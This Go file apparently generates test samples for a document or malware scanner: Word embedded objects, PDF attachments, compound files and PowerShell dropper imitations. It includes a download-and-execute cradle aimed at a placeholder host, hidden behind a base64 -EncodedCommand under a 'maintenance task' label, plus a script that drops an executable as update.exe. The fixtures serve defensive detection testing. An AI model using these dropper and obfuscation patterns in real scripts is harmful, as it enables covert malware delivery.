package samples

import (
	"bytes"
	"compress/zlib"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"strings"
)

// Ole10Native builds an \x01Ole10Native stream as Packager writes it: the
// label and source path of the embedded file, a command line, then the
// file itself.
func Ole10Native(label, path string, payload []byte) []byte {
	le := binary.LittleEndian
	var body []byte
	body = le.AppendUint16(body, 2)
	body = append(body, label+"\x00"+path+"\x00"...)
	body = le.AppendUint16(body, 0)
	body = le.AppendUint16(body, 3) // an embedded file, not a link
	tmp := `C:\Users\user\AppData\Local\Temp\` + label + "\x00"
	body = le.AppendUint32(body, uint32(len(tmp)))
	body = append(body, tmp...)
	body = le.AppendUint32(body, uint32(len(payload)))
	body = append(body, payload...)
	return append(le.AppendUint32(nil, uint32(len(body))), body...)
}

// DocEmbedding is a Word 97-2003 document (an OLE compound file) with one
// embedded object, as Word stores a file inserted as an object: the
// storage ObjectPool/_1234567890 holds \x01CompObj and the Packager's
// \x01Ole10Native stream, whose header names the file label.
func DocEmbedding(label string, payload []byte) []byte {
	return cfb([]cfbEntry{
		{name: "WordDocument", data: bytes.Repeat([]byte{0xEC, 0xA5, 0xC1, 0x00}, 128)},
		{name: "ObjectPool", storage: true},
		{name: "_1234567890", parent: "ObjectPool", storage: true},
		{name: "\x01CompObj", parent: "_1234567890", data: []byte("\x01\x00\xfe\xff\x03\x0a\x00\x00Package\x00")},
		{name: "\x01Ole10Native", parent: "_1234567890", data: Ole10Native(label, `C:\Users\user\Desktop\`+label, payload)},
	})
}

// PDFAttachment is a PDF with one attached file (a file attachment in the
// /EmbeddedFiles name tree): the FlateDecode /EmbeddedFile stream comes
// before the file specification that names it, as some writers order
// them, so a reader must look past the stream for its name. The
// cross-reference table is right, so PDF tools open it.
func PDFAttachment(name string, payload []byte) []byte {
	var z bytes.Buffer
	zw := zlib.NewWriter(&z)
	_, _ = zw.Write(payload)
	_ = zw.Close()
	objs := []string{
		"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(" + name + ") 5 0 R] >> >> >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
		fmt.Sprintf("<< /Type /EmbeddedFile /Filter /FlateDecode /Length %d /Params << /Size %d >> >>\nstream\n%s\nendstream", z.Len(), len(payload), z.Bytes()),
		"<< /Type /Filespec /F (" + name + ") /UF (" + name + ") /EF << /F 4 0 R >> >>",
	}
	return pdfOf(objs)
}

// DownloadCradle is the PowerShell a dropper's encoded command typically
// holds: fetch a script and run it. The address is reserved for
// documentation (RFC 2606), so nothing is ever fetched.
const DownloadCradle = "$wc = New-Object System.Net.WebClient\r\n" +
	"IEX ($wc.DownloadString('http://intellidox.example/stage2.ps1'))\r\n" +
	"# IntelliDox test script: harmless, it is never run.\r\n" +
	"# Padding so that the encoded command is as long as real ones.\r\n" +
	"# Padding so that the encoded command is as long as real ones.\r\n"

// PowerShellEncodedCommand is a .ps1 that starts PowerShell with
// -EncodedCommand: base64 of the UTF-16LE text of DownloadCradle, as
// Windows expects it. Nothing in its raw bytes names IEX or a download.
func PowerShellEncodedCommand() []byte {
	return []byte("# maintenance task\r\n$cmd = '" + base64.StdEncoding.EncodeToString(utf16le(DownloadCradle)) + "'\r\n" +
		"Start-Process powershell.exe -ArgumentList '-NoProfile', '-WindowStyle', 'Hidden', '-EncodedCommand', $cmd\r\n")
}

// PowerShellEmbeddedPE is a .ps1 carrying PlainPE as a base64 string,
// wrapped at 76 characters as MIME and many droppers do, and writing it to
// disk.
func PowerShellEmbeddedPE() []byte {
	enc := base64.StdEncoding.EncodeToString(PlainPE())
	var lines []string
	for len(enc) > 76 {
		lines = append(lines, enc[:76])
		enc = enc[76:]
	}
	lines = append(lines, enc)
	return []byte("$b64 = @'\r\n" + strings.Join(lines, "\r\n") + "\r\n'@\r\n" +
		"[IO.File]::WriteAllBytes(\"$env:TEMP\\update.exe\", [Convert]::FromBase64String($b64))\r\n")
}

// CFBEntry is an entry of a compound file built by CFB: a storage, or a
// stream with its data. Parent names the storage holding it, "" the root;
// storage names must be unique.
type CFBEntry struct {
	Name, Parent string
	Storage      bool
	Data         []byte
}

// CFB builds a version 3 compound file of entries, at most 64 KiB.
func CFB(entries ...CFBEntry) []byte {
	es := make([]cfbEntry, len(entries))
	for i, e := range entries {
		es[i] = cfbEntry{name: e.Name, parent: e.Parent, storage: e.Storage, data: e.Data}
	}
	return cfb(es)
}
